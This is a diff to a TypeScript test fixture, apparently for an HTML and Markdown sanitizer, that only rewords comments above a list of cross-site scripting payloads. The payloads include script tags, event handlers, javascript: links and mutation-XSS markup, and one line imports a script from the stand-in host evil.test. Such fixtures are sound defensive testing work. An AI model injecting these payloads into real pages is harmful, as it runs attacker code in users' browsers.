@@ -1,6 +1,6 @@
 const tab = '\t';
 
-/** Article texts that try to run something, to reach another site or to take over the page. */
+/** Article texts that try to run a script, send a request to another site or manipulate the page. */
 export const hostileArticles: readonly string[] = [
   // Scripts.
   '<script>alert(1)</script>',
@@ -13,7 +13,7 @@ export const hostileArticles: readonly string[] = [
   '```html\n<script>alert(1)</script>\n```\n\n<script>alert(1)</script>',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<script type=module>import("http://evil.test/x.js")</script>',
-  // Handlers.
+  // Event handlers.
   '<img src=x onerror=alert(1)>',
   '<img src=x:alert(1) onerror=eval(src)>',
   '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
@@ -31,7 +31,7 @@ export const hostileArticles: readonly string[] = [
   '<x onclick=alert(1)>x</x>',
   '<select autofocus onfocus=alert(1)></select>',
   '<p popover id=screen onbeforetoggle=alert(1)>x</p><button popovertarget=screen>x</button>',
-  // Addresses.
+  // URLs.
   '[x](javascript:alert(1))',
   '[x](JaVaScRiPt:alert(1))',
   '[x](javascript&colon;alert(1))',
@@ -83,7 +83,7 @@ export const hostileArticles: readonly string[] = [
   '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
   '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
   '<math href="javascript:alert(1)">x</math>',
-  // What changes when it is parsed a second time.
+  // Markup that changes when it is parsed a second time.
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
@@ -103,7 +103,7 @@ export const hostileArticles: readonly string[] = [
   'Step 1: <b onclick=alert(1)>x</b>\nStep 2: [x](javascript:alert(1))',
   '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
   '## <img src=x onerror=alert(1)> Light\n\n## "><script>alert(1)</script>',
-  // Depth.
+  // Deep nesting.
   `${'<div>'.repeat(5_000)}<img src=x onerror=alert(1)>`,
   `${'<svg><math>'.repeat(600)}<img src=x onerror=alert(1)>`,
   `${'> '.repeat(5_000)}<img src=x onerror=alert(1)>`,
